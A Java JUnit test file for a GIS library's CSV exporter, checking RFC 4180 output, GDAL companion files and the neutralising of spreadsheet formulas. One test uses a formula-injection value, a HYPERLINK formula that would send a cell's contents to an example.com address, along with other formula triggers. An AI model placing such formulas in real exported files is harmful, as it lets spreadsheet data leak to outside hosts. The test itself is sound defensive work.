package org.furat.io;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import com.fasterxml.jackson.databind.JsonNode;
import org.furat.io.csv.CsvFormat;
import org.furat.text.CsvCells;
import org.junit.jupiter.api.Test;

class CsvFormatTest extends ExportFormatContract {

    static final List<String> OPEN_OPTIONS = List.of("-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat",
            "-oo", "EMPTY_STRING_AS_NULL=YES");

    @Override
    ExportFormat format() {
        return new CsvFormat();
    }

    @Override
    Map<FieldType, Set<String>> gdalTypes() {
        return Map.of(FieldType.TEXT, Set.of("String"), FieldType.INTEGER, Set.of("Integer64"),
                FieldType.REAL, Set.of("Real"), FieldType.DATE, Set.of("Date"));
    }

    @Override
    List<String> openOptions() {
        return OPEN_OPTIONS;
    }

    /**
     * CSV has no null, so GDAL is told to read an empty field as no value; and GDAL's CSV reader joins the lines of
     * a quoted multi-line value with "\n", so a "\r\n" inside a value (written as is, as RFC 4180 allows) reads as "\n".
     */
    @Override
    String textAsRead(String written) {
        return written.isEmpty() ? null : CsvCells.neutralised(written).replace("\r\n", "\n");
    }

    /** A strict RFC 4180 reader: records of fields, a quoted field's text unquoted, an unquoted empty field null. */
    static List<List<String>> parse(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        int i = 0;
        while (i < text.length()) {
            String field;
            if (text.charAt(i) == '"') {
                StringBuilder b = new StringBuilder();
                i++;
                while (true) {
                    char c = text.charAt(i++);
                    if (c == '"') {
                        if (i < text.length() && text.charAt(i) == '"') {
                            b.append('"');
                            i++;
                        } else {
                            break;
                        }
                    } else {
                        b.append(c);
                    }
                }
                field = b.toString();
            } else {
                int end = i;
                while (end < text.length() && text.charAt(end) != ',' && text.charAt(end) != '\r') {
                    assertFalse(text.charAt(end) == '"' || text.charAt(end) == '\n', "bare quote or newline in an unquoted field at " + end);
                    end++;
                }
                field = end == i ? null : text.substring(i, end);
                i = end;
            }
            record.add(field);
            if (text.startsWith(",", i)) {
                i++;
            } else {
                assertTrue(text.startsWith("\r\n", i), "a record ends with CRLF at " + i);
                i += 2;
                records.add(record);
                record = new ArrayList<>();
            }
        }
        assertTrue(record.isEmpty(), "the last record ends with CRLF");
        return records;
    }

    @Test
    void theCsvIsRfc4180Utf8WithABomAndHoldsEveryValueExactly() throws IOException {
        List<Feature> features = SampleLayer.features(FEATURES);
        Path file = writeSample();
        byte[] bytes = Files.readAllBytes(file);
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3), "UTF-8 byte order mark");
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<List<String>> records = parse(text);
        assertEquals(FEATURES + 1, records.size());
        List<String> header = new ArrayList<>(List.of("lon", "lat"));
        SampleLayer.LAYER.fields().forEach(f -> header.add(f.name()));
        assertEquals(header, records.get(0));
        for (int i = 0; i < FEATURES; i++) {
            Feature expected = features.get(i);
            List<String> record = records.get(i + 1);
            assertEquals(expected.lon(), Double.parseDouble(record.get(0)), 0.0);
            assertEquals(expected.lat(), Double.parseDouble(record.get(1)), 0.0);
            assertFalse(record.get(0).contains("E") || record.get(1).contains("E"), "no exponent: " + record.subList(0, 2));
            for (int f = 0; f < SampleLayer.LAYER.fields().size(); f++) {
                Object value = expected.values().get(f);
                assertEquals(value == null ? null : value instanceof String t ? CsvCells.neutralised(t) : ValueText.of(value), record.get(f + 2), "feature " + i + " " + SampleLayer.LAYER.fields().get(f).name());
            }
        }
    }

    @Test
    void anEmptyTextIsQuotedSoItDiffersFromNoValue() throws IOException {
        Layer layer = new Layer("t", List.of(new Field("a", FieldType.TEXT, 10, ""), new Field("b", FieldType.TEXT, 10, ""),
                new Field("n", FieldType.INTEGER, 0, ""), new Field("d", FieldType.DATE, 0, "")), null);
        Path file = write("empty-text.csv", layer, features(new Object[] {40.5, 35.25, "", null, 12L, java.time.LocalDate.of(2024, 2, 29)}));
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertEquals("\uFEFFlon,lat,a,b,n,d\r\n40.5,35.25,\"\",,12,2024-02-29\r\n", text);
    }

    @Test
    void theCompanionsGiveGdalTheColumnTypesAndTheCrs() throws IOException {
        Path file = write("types.csv", SampleLayer.LAYER, SampleLayer.features(3));
        assertEquals("\"Real\",\"Real\",\"String\",\"String\",\"String\",\"String\",\"Integer64\",\"Integer64\",\"Real\",\"Date\",\"Date\","
                + "\"String\",\"String\",\"String\"\r\n", Files.readString(dir.resolve("types.csvt"), StandardCharsets.US_ASCII));
        assertTrue(Files.readString(dir.resolve("types.prj"), StandardCharsets.US_ASCII).endsWith("AUTHORITY[\"EPSG\",\"4326\"]]"));
        Gdal.require();
        Gdal.Summary summary = Gdal.summary(file, OPEN_OPTIONS);
        assertEquals("Point", summary.geometry(), summary.text());
        List<String> columns = new ArrayList<>(summary.fieldTypes().keySet());
        assertEquals("lon", columns.get(0), "GDAL reads the header's first name without the byte order mark");
        assertEquals("lat", columns.get(1));
        assertEquals("Real", summary.fieldTypes().get("lon"));
        assertEquals(SampleLayer.LAYER.fields().size() + 2, columns.size());
    }

    @Test
    void withoutOpenOptionsGdalStillReadsTypedColumns() throws IOException {
        Path file = write("plain.csv", SampleLayer.LAYER, SampleLayer.features(3));
        Gdal.require();
        Gdal.Summary summary = Gdal.summary(file, List.of());
        assertEquals(3, summary.featureCount());
        assertEquals("Date", summary.fieldTypes().get("date_start"));
        assertEquals("Integer64", summary.fieldTypes().get("killed"));
    }

    @Test
    void theCompanionsAreNamedAsGdalLooksForThem() {
        CsvFormat csv = new CsvFormat();
        assertEquals(List.of(dir.resolve("a.csv"), dir.resolve("a.csvt"), dir.resolve("a.prj")), csv.outputs(dir.resolve("a.csv")));
        assertEquals(List.of(dir.resolve("a.b.CSV"), dir.resolve("a.b.csvt"), dir.resolve("a.b.prj")), csv.outputs(dir.resolve("a.b.CSV")));
        assertEquals(List.of(dir.resolve("data"), dir.resolve("data.csvt"), dir.resolve("data.prj")), csv.outputs(dir.resolve("data")));
        assertThrows(IllegalArgumentException.class, () -> csv.outputs(dir.resolve("a.prj")));
    }

    @Test
    void fieldsNamedLikeTheCoordinateColumnsAreRefused() {
        Layer layer = new Layer("t", List.of(new Field("LAT", FieldType.REAL, 0, "")), null);
        assertThrows(IllegalArgumentException.class, () -> format().open(dir.resolve("t.csv"), layer));
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndNumbersStayNumbers() throws IOException {
        Layer layer = new Layer("sources", List.of(new Field("outlet", FieldType.TEXT, 80, ""), new Field("killed", FieldType.INTEGER, 0, ""),
                new Field("share", FieldType.REAL, 0, "")), null);
        String hyperlink = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")";
        Path file = write("formulas.csv", layer, features(
                new Object[] {-3.5, 35.25, hyperlink, -3L, -0.5},
                new Object[] {40.5, -35.25, "+1", 2L, 1.5},
                new Object[] {40.5, 35.25, "-x", null, null},
                new Object[] {40.5, 35.25, "@SUM(A1:A9)", null, null},
                new Object[] {40.5, 35.25, "\t=1+2", null, null},
                new Object[] {40.5, 35.25, "-3", null, null},
                new Object[] {40.5, 35.25, "a = b, -c", null, null}));
        List<String> lines = Files.readString(file, StandardCharsets.UTF_8).lines().toList();
        assertEquals("-3.5,35.25,\"'=HYPERLINK(\"\"http://example.com/?leak=\"\"&A1,\"\"Click\"\")\",-3,-0.5", lines.get(1));
        assertEquals("40.5,-35.25,\"'+1\",2,1.5", lines.get(2), "a negative coordinate stays a number");
        assertEquals("40.5,35.25,\"'-x\",,", lines.get(3));
        assertEquals("40.5,35.25,\"'@SUM(A1:A9)\",,", lines.get(4));
        assertEquals("40.5,35.25,\"'\t=1+2\",,", lines.get(5));
        assertEquals("40.5,35.25,\"-3\",,", lines.get(6), "a text that is a plain number cannot be a formula");
        assertEquals("40.5,35.25,\"a = b, -c\",,", lines.get(7));
        Gdal.require();
        JsonNode read = Gdal.readAsGeoJson(file, OPEN_OPTIONS).path("features");
        List<String> outlets = new ArrayList<>();
        read.forEach(f -> outlets.add(f.path("properties").path("outlet").textValue()));
        assertEquals(List.of("'" + hyperlink, "'+1", "'-x", "'@SUM(A1:A9)", "'\t=1+2", "-3", "a = b, -c"), outlets,
                "GDAL keeps the prefixed text as text");
        JsonNode first = read.get(0);
        assertEquals(-3.5, first.path("geometry").path("coordinates").get(0).asDouble(), 0.0);
        assertTrue(first.path("properties").path("killed").isIntegralNumber(), first.toString());
        assertEquals(-3, first.path("properties").path("killed").longValue());
        assertEquals(-0.5, first.path("properties").path("share").doubleValue(), 0.0);
    }
}
